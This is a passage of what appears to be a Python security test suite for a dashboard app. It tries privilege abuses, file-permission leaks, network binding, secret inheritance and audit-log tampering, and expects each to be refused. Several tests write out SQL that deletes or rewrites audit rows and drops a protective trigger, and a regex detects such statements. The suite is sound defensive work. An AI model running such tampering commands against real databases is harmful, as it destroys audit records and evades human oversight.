                              what="work_queue", detail="team=north")  # fmt: skip
    download()
    last = env.store.audit_trail(limit=1)[0]
    if (last["action"], last["username"], last["rows"], last["detail"]) != (
        "queue.export",
        "mia",
        2,
        "team=north",
    ):
        raise Breach(f"the export was not audited: {last}")
    return "refused"


# --- The app store: owners and the append-only audit ------------------------------------------


@attack("store", "an analyst deletes an admin's saved query")
def _(env: Env) -> str:
    store = env.fresh_store("owners1")
    saved = store.save_query(ADMIN, "board pack", "SELECT 1")
    try:
        store.delete_query(ANALYST, saved.query_id)
    except Forbidden:
        if not store.saved_queries():
            raise Breach("refused, yet deleted") from None
        return "refused"
    raise Breach("an analyst deleted an admin's query")


@attack("store", "an analyst overwrites another's saved query by its name")
def _(env: Env) -> str:
    store = env.fresh_store("owners2")
    store.save_query(ADMIN, "board pack", "SELECT 1")
    store.save_query(ANALYST, "board pack", "SELECT 2")
    mine = [q.sql for q in store.saved_queries() if q.author == ADMIN.username]
    if mine != ["SELECT 1"]:
        raise Breach("another user's query was replaced")
    return "refused"


@attack("store", "a manager stops another manager's experiment")
def _(env: Env) -> str:
    store = env.fresh_store("owners3")
    store.ensure_baseline({})
    store.save_settings(MANAGER, {}, reason="copy", based_on=1)
    started = store.start_experiment(
        MANAGER, name="x", champion_version=1, challenger_version=2, challenger_share=0.5,
        seed=1, start_month=date(2024, 1, 1), accounts=2, challenger_accounts=1,
    )  # fmt: skip
    try:
        store.stop_experiment(OTHER_MANAGER, started.experiment_id)
    except Forbidden:
        return "refused"
    raise Breach("another manager stopped the experiment")


def _tamper(name: str, sql: str) -> None:
    @attack("store", name)
    def _(env: Env) -> str:
        store = env.fresh_store(f"tamper_{abs(hash(name))}")
        store.audit(ANALYST, "workbench.query", allowed=True, query="SELECT 1")
        con = sqlite3.connect(store.path)
        try:
            con.execute(sql)
            con.commit()
        except sqlite3.DatabaseError:
            return "refused"
        finally:
            con.close()
        raise Breach(f"the audit trail accepted: {sql}")


for name, sql in (
    ("rewrite an audit row", "UPDATE audit SET username = 'nobody'"),
    ("delete an audit row", "DELETE FROM audit"),
    ("replace an audit row", "INSERT OR REPLACE INTO audit (event_id, at, action, allowed) "
     "VALUES (1, 'x', 'login', 1)"),
    ("insert a row before the last", "INSERT INTO audit (event_id, at, action, allowed) "
     "VALUES (0, 'x', 'login', 1)"),
):  # fmt: skip
    _tamper(name, sql)


@attack("store", "tamper after dropping the triggers")
def _(env: Env) -> str:
    store = env.fresh_store("tamper_chain")
    for i in range(3):
        store.audit(ANALYST, "workbench.query", allowed=True, query=f"SELECT {i}")
    con = sqlite3.connect(store.path)
    con.execute("DROP TRIGGER audit_no_update")
    con.execute("UPDATE audit SET query = 'SELECT 42' WHERE event_id = 2")
    con.commit()
    con.close()
    if store.verify_audit().broken_at != 2:
        raise Breach("a row changed outside the app went unnoticed")
    return "refused"


@attack("store", "the code has an update or delete path on the audit trail")
def _(env: Env) -> str:
    import re

    root = Path(__file__).resolve().parents[1]
    pattern = re.compile(r"(UPDATE\s+audit\b|DELETE\s+FROM\s+audit\b|DROP\s+(TABLE|TRIGGER)"
                         r"\s+(IF\s+EXISTS\s+)?audit|REPLACE\s+INTO\s+audit)", re.I)  # fmt: skip
    for folder in ("warehouse", "dashboard", "checks", "bench"):
        for source in (root / folder).rglob("*.py"):
            if pattern.search(source.read_text(encoding="utf-8")):
                raise Breach(f"{source} can change the audit trail")
    return "refused"


@attack("store", "a kiosk viewer saves a strategy")
def _(env: Env) -> str:
    store = env.fresh_store("viewer")
    store.ensure_baseline({})
    try:
        store.save_settings(User("kiosk", "viewer"), {}, reason="x", based_on=1)
    except Forbidden:
        return "refused"
    raise Breach("a viewer saved settings")


# --- Files and the network ----------------------------------------------------------------------


def _private(path: Path) -> None:
    mode = stat.S_IMODE(path.stat().st_mode)
    if mode & 0o077:
        raise Breach(f"{path} is {oct(mode)}: readable by others")


@attack("files", "the app store is readable by others")
def _(env: Env) -> str:
    previous = os.umask(0o022)
    try:
        store = env.fresh_store("perm_store")
        store.audit(ANALYST, "login", allowed=True)
    finally:
        os.umask(previous)
    for suffix in ("", "-wal", "-shm"):
        found = Path(str(store.path) + suffix)
        if found.exists():
            _private(found)
    return "refused"


@attack("files", "the users file is readable by others")
def _(env: Env) -> str:
    previous = os.umask(0o022)
    try:
        with _fast_hashes():
            users = UsersFile(env.root / "perm_users" / "users.json")
            users.add("zed", PASSWORD, "analyst")
    finally:
        os.umask(previous)
    _private(users.path)
    return "refused"


@attack("files", "a demo warehouse is readable by others")
def _(env: Env) -> str:
    previous = os.umask(0o022)
    try:
        db = env.root / "perm_demo" / "warehouse.duckdb"
        create_demo_warehouse(db)
    finally:
        os.umask(previous)
    _private(db)
    return "refused"


@attack("files", "owner_only leaves a tree readable")
def _(env: Env) -> str:
    tree = env.root / "perm_tree"
    (tree / "a" / "b").mkdir(parents=True, exist_ok=True)
    (tree / "a" / "b" / "index.html").write_text("x")
    os.chmod(tree / "a" / "b" / "index.html", 0o644)
    owner_only(tree, recursive=True)
    for path in (tree, tree / "a", tree / "a" / "b", tree / "a" / "b" / "index.html"):
        _private(path)
    with owner_only_umask():
        (tree / "new.txt").write_text("y")
    _private(tree / "new.txt")
    return "refused"


@attack("files", "Streamlit listens on every interface")
def _(env: Env) -> str:
    import tomllib

    config = Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml"
    server = tomllib.loads(config.read_text(encoding="utf-8"))["server"]
    if server.get("address") not in ("localhost", "127.0.0.1"):
        raise Breach(f"the project's Streamlit config binds to {server.get('address')!r}")
    if server.get("enableXsrfProtection") is False or server.get("enableCORS") is False:
        raise Breach("XSRF or CORS protection is off")
    return "refused"


@attack("files", "the worker inherits the dashboard's secrets")
def _(env: Env) -> str:
    from warehouse.app.workbench import run

    os.environ["COLLECTIONS_MASK_KEY"] = "s3cr3t-mask-key"
    try:
        leaked = run._worker_env()
    finally:
        os.environ.pop("COLLECTIONS_MASK_KEY", None)
    if any("COLLECTIONS" in key or "s3cr3t" in value for key, value in leaked.items()):
        raise Breach(f"the worker's environment holds {sorted(leaked)}")
    return "refused"


def by_kind(kind: str) -> list[Attack]:
    return [found for found in ATTACKS if found.kind == kind]


KINDS = ("workbench", "engine", "resources", "errors", "signin", "demo", "exports", "store",
         "files")  # fmt: skip
